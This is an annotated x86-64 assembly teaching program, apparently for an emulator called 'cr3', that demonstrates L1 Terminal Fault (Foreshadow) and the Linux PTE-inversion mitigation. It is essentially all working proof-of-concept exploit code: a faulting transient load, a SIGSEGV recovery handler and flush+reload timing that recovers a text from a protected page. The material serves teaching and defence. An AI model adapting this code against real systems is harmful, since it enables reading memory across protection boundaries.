# l1tf: what an entry that is not present still says
#
# What it teaches: where P is clear in a page-table entry, nothing else in it counts, says the manual. But the L1
# data cache is looked up while the entry is still being read, and some parts do that with whatever address
# stands in it. If that line is in the cache, its data goes to the instructions behind the load, before the fault
# comes (L1 Terminal Fault; Foreshadow, 2018). So a text is read from a page that mprotect() has
# taken away. Linux therefore inverts the address in every entry that is not present: there is no memory at
# that address, and no line of it in any cache.
#
# Try:  cr3 run programs/l1tf.asm --caches --pte-inversion off -- "out of reach"
#       cr3 run programs/l1tf.asm --caches -- "out of reach"
#       cr3 run programs/l1tf.asm --caches --pte-inversion off --cpu zen2 -- "out of reach"
#       The last part looks at P first.
#
# expect: exit 0
# expect stdout: nothing to read

    .equ    PAGE, 4096
    .equ    TRIES, 4                    # for each byte
    .equ    PLACE, 0x480                # of the text in its page: no other data of ours has these sets of the cache
    .equ    MOST, 1024
    .equ    SIGSEGV, 11
    .equ    UC_RIP, 168                 # offset of uc_mcontext.rip in the ucontext

    .section .rodata
nothing:
    .ascii  "nothing to read\n"
    .equ    NOTHING, . - nothing
read:
    .ascii  "read: "
    .equ    READ, . - read

    .data
action:                                 # struct sigaction, as the kernel wants it
    .quad   handler
    .quad   0x04000004                  # SA_SIGINFO | SA_RESTORER
    .quad   restorer
    .quad   0

    .bss
    .balign PAGE
array:
    .skip   256 * PAGE
leaked:
    .skip   2 * MOST

    .text
handler:                                # (edi = signal, rsi = siginfo_t, rdx = ucontext)
    lea     rax, [rip + faulted]        # the load that faulted is not tried again
    mov     [rdx + UC_RIP], rax
    ret
restorer:
    mov     eax, 15                     # rt_sigreturn
    syscall

    .globl  _start
_start:
    cmp     qword ptr [rsp], 2          # argc
    jb      silent
    mov     r14, [rsp + 16]             # argv[1], the text
    mov     edi, SIGSEGV
    lea     rsi, [rip + action]
    xor     edx, edx
    mov     r10d, 8
    mov     eax, 13                     # rt_sigaction
    syscall
    xor     edi, edi
    mov     esi, PAGE
    mov     edx, 3                      # PROT_READ | PROT_WRITE
    mov     r10d, 0x22                  # MAP_PRIVATE | MAP_ANONYMOUS
    mov     r8, -1
    xor     r9d, r9d
    mov     eax, 9                      # mmap
    syscall
    mov     r12, rax                    # the page
    xor     ebp, ebp                    # length of the text
copy:
    mov     al, [r14 + rbp]
    mov     [r12 + PLACE + rbp], al
    inc     ebp
    cmp     ebp, MOST
    je      copied
    test    al, al
    jnz     copy
copied:
    dec     ebp
    lea     rbx, [rip + array]
    xor     ecx, ecx
promise:                                # every page a frame of its own: all untouched ones share the zero page
    mov     byte ptr [rbx + rcx], 1
    add     ecx, PAGE
    cmp     ecx, 256 * PAGE
    jb      promise
    call    calibrate                   # r15d = half way between near and far
    xor     r13d, r13d                  # bytes so far

next_byte:
    cmp     r13d, ebp
    je      finish
    mov     r14d, TRIES
attempt:
    mov     edx, 1                      # PROT_READ
    call    protect
    mov     al, [r12 + r13 + PLACE]     # whose page this is uses it
    xor     edx, edx                    # PROT_NONE
    call    protect
    xor     ecx, ecx
flush:
    clflush [rbx + rcx]
    add     ecx, PAGE
    cmp     ecx, 256 * PAGE
    jb      flush
    mfence

    lea     rcx, [r12 + r13 + PLACE]
    xor     eax, eax
    mov     al, [rcx]                   # not present
    shl     rax, 12
    mov     al, [rbx + rax]
    ud2                                 # only a core that executes ahead has ever been here

faulted:
    call    reload                      # edi = the page that is near
    test    edi, edi
    jnz     found
    dec     r14d
    jnz     attempt
    mov     edi, '?'
found:
    lea     rdx, [rip + leaked]
    mov     [rdx + r13], dil
    inc     r13d
    jmp     next_byte

finish:
    mov     edi, 1
    lea     rsi, [rip + read]
    mov     edx, offset READ
    mov     eax, 1                      # write
    syscall
    lea     rsi, [rip + leaked]
    mov     byte ptr [rsi + r13], 10    # newline
    lea     edx, [r13 + 1]
    jmp     print
silent:
    lea     rsi, [rip + nothing]
    mov     edx, offset NOTHING
print:
    mov     edi, 1
    mov     eax, 1
    syscall
    xor     edi, edi
    mov     eax, 60                     # exit
    syscall

# protect: give the page the rights in edx. Changes rax, rcx, rsi, rdi, r11.
protect:
    mov     rdi, r12
    mov     esi, PAGE
    mov     eax, 10                     # mprotect
    syscall
    ret

# reload: edi = the page of array whose load takes least, if it is near, else 0; page 0, which a load without data touches,
# does not count. Changes rax, rcx, rdx, rsi, r8, r9, r10.
reload:
    xor     edi, edi
    mov     r10d, r15d                  # the least so far
    xor     r9d, r9d
probe:
    imul    ecx, r9d, 167               # in an order that no prefetcher guesses
    add     ecx, 13
    and     ecx, 255
    mov     esi, ecx
    shl     esi, 12
    add     rsi, rbx
    push    rcx
    call    time_load
    pop     rcx
    test    ecx, ecx
    jz      other
    cmp     eax, r10d
    jae     other
    mov     r10d, eax
    mov     edi, ecx
other:
    inc     r9d
    cmp     r9d, 256
    jb      probe
    ret

# time_load: eax = cycles of a load from rsi. Changes rcx, rdx, r8.
time_load:
    rdtscp                              # waits for the loads before it
    mov     r8d, eax
    mov     cl, [rsi]
    rdtscp
    sub     eax, r8d
    ret

# calibrate: r15d = half way between a load from the caches and one from memory. Changes rax, rcx, rdx, rsi, r8.
calibrate:
    mov     rsi, rbx
    clflush [rsi]
    mfence
    call    time_load
    mov     r15d, eax
    call    time_load
    add     r15d, eax
    shr     r15d, 1
    ret
